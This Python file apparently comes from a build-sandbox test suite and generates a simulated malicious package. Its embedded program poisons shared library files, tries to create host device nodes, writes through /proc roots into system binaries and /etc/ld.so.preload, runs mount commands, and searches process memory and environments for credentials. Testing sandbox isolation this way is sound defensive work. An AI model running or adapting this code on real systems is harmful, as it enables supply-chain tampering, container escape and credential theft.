"""What a malicious package does when a build runs it; the text of a program, as it runs in the sandbox.

It writes wherever it can, reads whatever it can, asks the door for what is not meant for it, and keeps what came of it.
"""

import json
from typing import Any

_PROGRAM = r'''
import glob, hashlib, json, os, re, socket, stat, subprocess, sys

WANTED = json.loads(@WANTED@)
MARK = "# poisoned\n"


def tried(action, *arguments):
    try:
        action(*arguments)
        return True
    except (OSError, subprocess.SubprocessError):
        return False


def append(path):
    with open(path, "a") as file:
        file.write(MARK)


def below(folder):
    for parent, _, names in os.walk(folder):
        for name in names:
            yield os.path.join(parent, name)


def poison_what_is_shared():
    """Change every file of the environment as it is seen here, and put worse beside it; count what could be done."""
    done = 0
    for folder in ("/opt/env", "/opt/node", "/opt/python"):
        for path in list(below(folder)):
            if path.endswith((".py", ".js", ".pth")) and not os.path.islink(path):
                tried(os.chmod, path, 0o6777)
                done += tried(append, path)
    for name in ("victim", "victim.py"):
        for place in glob.glob("/opt/env/lib/python3*/site-packages/" + name):
            done += tried(os.link, place, "/app/hard-link-" + name)
            done += tried(os.symlink, "/", place + "-root")
            done += tried(os.mkfifo, place + "-fifo")
    return done


def devices():
    """Try to make the host's disks, and the kernel's, readable."""
    made = []
    kinds = {"disk": (stat.S_IFBLK, 254, 0), "sda": (stat.S_IFBLK, 8, 0), "mem": (stat.S_IFCHR, 1, 1)}
    for name, (kind, *number) in kinds.items():
        path = "/tmp/device-" + name
        if tried(os.mknod, path, kind | 0o666, os.makedev(*number)):
            made.append(path)
    return made


def outside():
    """Write where others' things lie: by the host's own paths, and through each process's view of the world."""
    written = []
    roots = ["", *glob.glob("/proc/[0-9]*/root"), *glob.glob("/proc/[0-9]*/cwd"), *glob.glob("/proc/[0-9]*/fd/*")]
    lower = re.findall(r"[a-z]*dir=([^, ]+)", open("/proc/self/mountinfo").read())
    places = WANTED["places"] + [path for paths in lower for path in paths.split(":")]
    for root in roots:
        for place in places:
            for way in (place, "/../../../.." + place):
                if os.path.isdir(root + way) and tried(append, root + way + "/poison"):
                    written.append(root + way)
    for path in ("/opt/skep/bin/uv", "/opt/skep/lib/skep.py", "/usr/bin/git", "/usr/bin/python3", "/etc/ld.so.preload"):
        if tried(append, path):
            written.append(path)
    for argv in (["mount", "--bind", "/app", "/usr"], ["mount", "-t", "proc", "proc", "/tmp"], ["umount", "/opt/skep"]):
        if tried(lambda: subprocess.run(argv, check=True, capture_output=True, timeout=10)):
            written.append(" ".join(argv))
    return written


def secrets():
    """Look for the index' credentials in every file that can be read, the processes' environments among them."""
    needles = [text[::-1].encode() for text in WANTED["needles"]]
    found = []
    places = ["/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/proc/[0-9]*/mem", "/proc/kcore", "/proc/keys"]
    files = [path for place in places for path in glob.glob(place)]
    for folder in ("/app", "/etc", "/home", "/opt/env", "/opt/skep", "/root", "/run", "/tmp", "/var"):
        files += below(folder)
    for path in files:
        try:
            if not stat.S_ISREG(os.stat(path).st_mode) or os.path.getsize(path) > 1 << 22:
                continue
            with open(path, "rb") as file:
                text = file.read(1 << 22)
        except OSError:
            continue
        found += [path for needle in needles if needle in text]
    return found


def ask(method, target, *headers):
    """Return all that the door answers to one request."""
    said = b""
    try:
        with socket.create_connection(("127.0.0.1", 80), 2) as door:
            head = [method + " " + target + " HTTP/1.1", "Host: 127.0.0.1", "Connection: close", *headers]
            door.sendall(("\r\n".join(head) + "\r\n\r\n").encode("latin-1"))
            while len(said) < 1 << 20 and (piece := door.recv(65536)):
                said += piece
    except OSError as error:
        said += type(error).__name__.encode()
    return said.decode("latin-1")


def attack(who):
    """Do all of it; return what came of it."""
    loot = {"who": who, "python": sys.version, "environment": dict(os.environ)}
    loot["secrets"] = secrets()
    loot["answers"] = {" ".join(asked): ask(*asked) for asked in WANTED["asked"]}
    loot["outside"] = outside()
    loot["devices"] = devices()
    # Its own folder it may change: whatever else fails fails for a reason.
    loot["own"] = tried(append, "/app/poison-of-" + who)
    loot["shared"] = poison_what_is_shared()
    return loot
'''


def program(*, places: list[str], asked: list[list[str]], needles: tuple[str, ...]) -> str:
    """Return the program; its function `attack(who)` returns what it found.

    Args:
        places: folders of the host that it tries to write to.
        asked: method, target and headers of requests to the door.
        needles: texts that it looks for; they stand in it in reverse, so that it does not find itself.
    """
    wanted: dict[str, Any] = {"places": places, "asked": asked, "needles": [text[::-1] for text in needles]}
    return _PROGRAM.replace("@WANTED@", repr(json.dumps(wanted)))
